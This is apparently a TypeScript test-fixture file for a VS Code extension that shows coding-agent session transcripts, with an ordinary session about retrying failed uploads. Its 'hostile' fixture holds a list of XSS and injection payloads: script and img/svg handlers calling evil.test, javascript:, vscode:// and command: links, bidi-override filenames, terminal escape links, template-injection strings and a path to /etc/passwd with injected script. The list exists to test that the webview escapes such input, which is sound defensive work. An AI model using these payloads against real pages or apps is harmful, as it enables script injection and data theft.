import type { Item, ItemContent, ItemStatus } from "../../src/core/model/item.ts";
import { blankSummary, type SessionSummary } from "../../src/core/model/summary.ts";
import type { Branch, SessionNote, TranscriptRow } from "../../src/core/transcript/transcript.ts";
import type { SessionAction, TranscriptHeader } from "../../src/protocol/webview.ts";

/** A transcript as the host would have it: rows, and the item of each. */
export interface Fixture {
	readonly header: TranscriptHeader;
	readonly rows: TranscriptRow[];
	readonly items: (Item | undefined)[];
	/** Whole texts of fields that are cut, by `<item>\n<field>`. */
	readonly texts: Record<string, string>;
	readonly blobs: Record<string, { mime: string; base64: string }>;
}

const start = Date.parse("2026-03-04T09:15:00Z");

const summary: SessionSummary = blankSummary(
	{
		id: "01J00000000000000000000000",
		source: "skein",
		title: "Retry uploads that fail with a 503",
		untitled: false,
		agent: "codex",
		model: "gpt-5-codex",
		cwd: "/home/ada/parcel",
		branch: "fix/upload-retry",
		turns: 3,
		tokens: { input: 181_204, output: 4_310, total: 185_514 },
		file: "/home/ada/parcel/.vscode/skein/sessions/01J00000000000000000000000.jsonl",
		size: 1,
	},
	new Date(start).toISOString(),
);

interface Options {
	readonly summary?: Partial<SessionSummary>;
	readonly warnings?: readonly string[];
	readonly parentTitle?: string;
	readonly write?: boolean;
	readonly actions?: readonly SessionAction[];
}

/** Builds a transcript item by item, a turn at every prompt. */
export class FixtureBuilder {
	readonly rows: TranscriptRow[] = [];
	readonly items: (Item | undefined)[] = [];
	readonly texts: Record<string, string> = {};
	readonly blobs: Record<string, { mime: string; base64: string }> = {};
	readonly notes: SessionNote[] = [];
	readonly branches: Branch[] = [];
	private time = start;
	private turn = 0;
	private inheritedFrom: string | undefined;

	/** Lets time pass before the next item. */
	wait(seconds: number): this {
		this.time += seconds * 1000;
		return this;
	}

	inherit(from: string | undefined): this {
		this.inheritedFrom = from;
		return this;
	}

	add(content: ItemContent, status: ItemStatus = "completed"): this {
		if (content.type === "userMessage") {
			this.turn++;
		}
		this.time += 2000;
		const id = `item-${this.rows.length}`;
		const turn = `turn-${this.turn}`;
		this.rows.push({
			kind: "item",
			id,
			turn,
			type: content.type,
			status,
			time: this.time,
			...(this.inheritedFrom === undefined ? {} : { inheritedFrom: this.inheritedFrom }),
		});
		this.items.push({ id, turn, ts: new Date(this.time).toISOString(), status, content });
		return this;
	}

	/** Stands in for a value that the host cut: the model's types do not know of it. */
	addCut(content: Record<string, unknown> & { type: ItemContent["type"] }): this {
		return this.add(content as unknown as ItemContent);
	}

	gap(reason: string): this {
		this.rows.push({ kind: "gap", id: `gap-${this.rows.length}`, reason });
		this.items.push(undefined);
		return this;
	}

	note(text: string): this {
		const item = this.rows.at(-1)?.id ?? null;
		this.notes.push({ id: `note-${this.notes.length}`, item, text, ts: "" });
		return this;
	}

	branch(label: string): this {
		const after = this.rows.at(-1)?.id ?? null;
		this.branches.push({ head: "elsewhere", after, label, items: 3, time: this.time });
		return this;
	}

	withImage(): this {
		this.blobs[imageHash] = { mime: "image/png", base64: png };
		return this;
	}

	build(options: Options = {}): Fixture {
		const write = options.write ?? true;
		return {
			rows: this.rows,
			items: this.items,
			texts: this.texts,
			blobs: this.blobs,
			header: {
				summary: { ...summary, items: this.rows.length, turns: this.turn, ...options.summary },
				agentLabel: "Codex \u00b7 gpt-5-codex",
				branches: this.branches,
				notes: this.notes,
				warnings: options.warnings ?? [],
				capabilities: { write, fork: true },
				...(options.actions === undefined ? {} : { actions: options.actions }),
				...(options.parentTitle === undefined ? {} : { parentTitle: options.parentTitle }),
			},
		};
	}
}

/** A red dot, 4 by 4. */
const png =
	"iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEElEQVR4nGP4z8AARwzEcQCukw/x0F8jngAAAABJRU5ErkJggg==";
export const imageHash = `sha256:${"a".repeat(64)}`;

const testOutput = [
	"\u001b[1m\u001b[46m RUN \u001b[49m\u001b[22m \u001b[36mv3.2.4\u001b[39m /home/ada/parcel",
	"",
	" \u001b[32m\u2713\u001b[39m src/upload/queue.test.ts \u001b[2m(14 tests)\u001b[22m 212ms",
	" \u001b[31m\u276f\u001b[39m src/upload/retry.test.ts \u001b[2m(6 tests | 1 failed)\u001b[22m 1043ms",
	"   \u001b[31m\u00d7\u001b[39m waits as long as Retry-After says",
	"     \u001b[31m\u2192 expected 250 to be 2000\u001b[39m",
	"",
	"\u001b[2m Test Files \u001b[22m \u001b[1m\u001b[31m1 failed\u001b[39m\u001b[22m | \u001b[1m\u001b[32m1 passed\u001b[39m\u001b[22m",
].join("\n");

const diff = `@@ -12,9 +12,14 @@ export class Uploader {
 	async send(part: Part): Promise<void> {
-		const response = await this.http.put(part.url, part.bytes);
-		if (!response.ok) {
-			throw new UploadError(response.status);
+		for (let attempt = 0; ; attempt++) {
+			const response = await this.http.put(part.url, part.bytes);
+			if (response.ok) {
+				return;
+			}
+			await this.wait(delayBefore(attempt, response));
 		}
 	}
 
@@ -41,7 +46,7 @@
 	private limit(): number {
-		return this.options.limit ?? 3;
+		return this.options.limit ?? 5;
 	}
 }
`;

/** One of everything, as a session goes. */
export function everyday(): Fixture {
	return new FixtureBuilder()
		.add({
			type: "userMessage",
			text: "Uploads fail for good when the server answers 503 once. Retry them with a back-off, and honour `Retry-After`.",
		})
		.add({
			type: "reasoning",
			text: "**Looking at the upload path**\n\nThe uploader throws at the first answer that is not OK. I should see who calls it, and whether there is a retry helper already.",
		})
		.add({
			type: "agentMessage",
			phase: "commentary",
			text: "I'll look at how uploads are sent and whether there is a retry helper to build on.",
		})
		.add({
			type: "commandExecution",
			command: 'rg -n "UploadError" src',
			output:
				"src/upload/uploader.ts:16:\t\t\tthrow new UploadError(response.status);\nsrc/upload/queue.ts:3:import { UploadError } from './uploader';\n",
			exitCode: 0,
			durationMs: 84,
		})
		.add({
			type: "commandExecution",
			command: "sed -n 1,80p src/upload/uploader.ts",
			output: "import { Http } from '../http';\n",
			exitCode: 0,
			durationMs: 31,
		})
		.add({
			type: "toolCall",
			server: "github",
			tool: "get_issue",
			input: { repo: "ada/parcel", number: 412 },
			output: { title: "Upload gives up after one 503", state: "open", labels: ["bug"] },
			durationMs: 640,
		})
		.add({
			type: "webSearch",
			query: "RFC 9110 Retry-After date or seconds",
			output: "Retry-After = HTTP-date / delay-seconds",
		})
		.add({
			type: "plan",
			steps: [
				{ step: "Add delayBefore() with jitter and Retry-After", status: "completed" },
				{ step: "Loop in Uploader.send", status: "in_progress" },
				{ step: "Tests for both", status: "pending" },
			],
		})
		.add({
			type: "agentMessage",
			phase: "commentary",
			text: "There is none. I'll add one beside the uploader and keep `send` small.",
		})
		.add({
			type: "fileChange",
			changes: [{ path: "src/upload/uploader.ts", kind: "update", diff }],
		})
		.add({
			type: "commandExecution",
			command: "npx vitest run src/upload",
			cwd: "/home/ada/parcel",
			output: testOutput,
			exitCode: 1,
			durationMs: 3412,
		})
		.add({
			type: "agentMessage",
			phase: "final",
			text: [
				"Uploads are now retried up to five times. What changed:",
				"",
				"- `Uploader.send` waits and tries again on **429**, **502**, **503** and **504**; other answers fail at once as before.",
				"- `delayBefore(attempt, response)` honours `Retry-After` (seconds or a date), else doubles from 250 ms with jitter. See [RFC 9110](https://www.rfc-editor.org/rfc/rfc9110#field.retry-after).",
				"",
				"```ts",
				"// The server knows best how long it needs.",
				"export function delayBefore(attempt: number, response: Response): number {",
				"\tconst asked = retryAfter(response.headers);",
				"\treturn asked ?? Math.min(30_000, 250 * 2 ** attempt) * (0.5 + Math.random() / 2);",
				"}",
				"```",
				"",
				"| answer | before | now |",
				"| --- | --- | ---: |",
				"| 503 | fails | 5 tries |",
				"| 404 | fails | fails |",
				"",
				"One test still expects the old delay; shall I change it?",
			].join("\n"),
		})
		.note("Ask Grace whether five tries are too many on mobile.")
		.wait(1500)
		.add({
			type: "userMessage",
			text: "Yes. And look at this screenshot: the bar jumps back.",
			images: [{ blob: imageHash, mime: "image/png", alt: "Progress bar" }],
		})
		.branch("No, leave the test")
		.add({
			type: "fileChange",
			changes: [
				{
					path: "src/upload/retry.test.ts",
					kind: "update",
					diff: "@@ -3,1 +3,1 @@\n-expect(waited).toBe(250);\n+expect(waited).toBe(2000);\n",
				},
				{
					path: "src/upload/progress.ts",
					kind: "add",
					content: "export const floor = (n: number) => Math.max(0, n);\n",
				},
			],
		})
		.add({
			type: "commandExecution",
			command: "npx vitest run src/upload",
			output: "20 passed",
			exitCode: 0,
			durationMs: 65_400,
		})
		.add({
			type: "agentMessage",
			phase: "final",
			text: "Both are done: the test expects what the server asks for, and progress never goes below what was confirmed.",
		})
		.add({
			type: "compaction",
			text: "The user wants uploads retried. Done: uploader, tests, progress.",
		})
		.wait(86_400)
		.add({ type: "userMessage", text: "Ship it." })
		.add({
			type: "error",
			text: "stream disconnected before completion: 429 Too Many Requests",
			code: "rate_limit",
		})
		.add({
			type: "raw",
			label: "ghost_snapshot",
			value: { type: "ghost_snapshot", commit: "4f2a" },
		})
		.add({ type: "agentMessage", text: "Pushed as `fix/upload-retry`." })
		.withImage()
		.build();
}

/** `n` rows of long, ordinary turns. */
export function long(n: number): Fixture {
	const builder = new FixtureBuilder();
	for (let i = 0; builder.rows.length < n; i++) {
		builder.add({
			type: "userMessage",
			text: `Prompt ${i}: look at module ${i} and tell me what it does.`,
		});
		for (let step = 0; step < 5; step++) {
			builder.add({
				type: "commandExecution",
				command: `cat src/module${i}/part${step}.ts`,
				output: "x\n".repeat(30),
				exitCode: 0,
				durationMs: 40,
			});
		}
		builder.add({
			type: "agentMessage",
			text: `Module ${i} does **one** thing.\n\n${"It reads, it checks, it writes, and it says so in a sentence. ".repeat(1 + (i % 5))}`,
		});
		if (i % 3 === 0) {
			builder.wait(900);
		}
	}
	builder.rows.length = n;
	builder.items.length = n;
	return builder.build({ summary: { title: `A long session of ${n} rows` } });
}

const zalgo = `z${"\u0301\u0327\u0489".repeat(1500)}algo`;
const attacks = [
	"<script>window.pwned=1;fetch('https://evil.test/script')</script>",
	'<img src=https://evil.test/img.png onerror="window.pwned=1">',
	'<svg onload="window.pwned=1"><image href="https://evil.test/svg.png"/></svg>',
	"<style>@import url(https://evil.test/a.css);body{display:none}</style>",
	"<iframe src=https://evil.test/frame></iframe><base href=https://evil.test/>",
	'<div style="position:fixed;inset:0;background:url(https://evil.test/bg.png)">x</div>',
	"[click](javascript:window.pwned=1) [two](data:text/html,<script>alert(1)</script>) [three](vscode://evil/run) [cmd](command:workbench.action.quit)",
	"![beacon](https://evil.test/beacon.png) ![js](javascript:window.pwned=1)",
	"[good](https://example.com/page) <https://example.org/auto>",
	"| a | b |\n| :-: | --: |\n| <b onclick=pwned=1>1</b> | 2 |",
	'```"><script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```',
	"admin\u202Etxt.exe \u2066hidden\u2069 nul:\u0000 bell:\u0007 esc:\u001b[31mred\u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007",
	zalgo,
	"{{constructor.constructor('window.pwned=1')()}} $" + "{window.pwned=1}",
];

/** Everything a transcript may try, in every place that shows text. */
export function hostile(): Fixture {
	const all = attacks.join("\n\n");
	const line = "A".repeat(1_000_000);
	return new FixtureBuilder()
		.add({
			type: "userMessage",
			text: all,
			images: [
				{ url: "https://evil.test/image.png" },
				{ path: '/etc/passwd"><script>pwned=1</script>' },
			],
		})
		.add({ type: "agentMessage", text: all })
		.add({ type: "agentMessage", text: line })
		.add({ type: "agentMessage", text: `${"[".repeat(20_000)}${"*".repeat(20_000)}` })
		.add({ type: "reasoning", text: all })
		.add({ type: "error", text: all, code: "<script>pwned=1</script>" })
		.add({
			type: "commandExecution",
			command: all,
			output: `${all}\n${line}\r${all}`,
			exitCode: 1,
			cwd: all,
		})
		.add({ type: "agentMessage", text: "between" })
		.add({
			type: "fileChange",
			changes: [{ path: all, kind: "update", diff: `@@ -1 +1 @@\n-${all}\n+${line}` }],
		})
		.add({ type: "agentMessage", text: "between" })
		.add({
			type: "toolCall",
			server: all,
			tool: all,
			input: { a: all },
			output: { __proto__: all, b: [all] },
		})
		.add({ type: "agentMessage", text: "between" })
		.add({ type: "plan", text: all, steps: [{ step: all, status: all }] })
		.add({ type: "agentMessage", text: "between" })
		.add({ type: "raw", label: all, value: { html: all } })
		.add({ type: "compaction", text: all })
		.note(all)
		.add({ type: "image", image: { blob: imageHash, mime: "image/svg+xml", alt: all } })
		.gap(all)
		.add({ type: "note", text: all })
		.build({ summary: { title: all, branch: all }, warnings: [all, all], parentTitle: all });
}
